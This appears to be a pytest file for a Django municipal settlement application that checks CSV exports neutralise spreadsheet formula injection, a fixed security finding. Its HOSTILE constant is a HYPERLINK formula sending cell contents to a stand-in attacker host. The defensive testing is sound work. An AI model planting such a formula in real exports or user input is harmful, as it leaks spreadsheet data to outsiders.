"""CSV formula injection (security finding 6): user text that a spreadsheet would run as a formula is
exported as text."""

from __future__ import annotations

import csv
import io

import pytest

from bosetting.apps.audit.services import do_record
from bosetting.apps.geo.selectors import municipality
from bosetting.spreadsheet import safe_cell

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://angriper.example/?x="&A1,"Klikk")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_like_a_formula_gets_an_apostrophe(start):
    assert safe_cell(start + "1+1") == "'" + start + "1+1"


def test_numbers_and_ordinary_text_are_left_alone():
    assert safe_cell(-5) == -5 and safe_cell("Bergen") == "Bergen" and safe_cell(None) is None


def test_the_audit_export_neutralises_a_formula_in_a_note(client, imdi_officer, reference_db):
    do_record(imdi_officer, "decline", municipality("1201"), note=HOSTILE)
    client.force_login(imdi_officer)
    body = b"".join(client.get("/logg/eksport.csv").streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    notes = [r[-1] for r in rows[1:]]
    assert "'" + HOSTILE in notes and HOSTILE not in notes
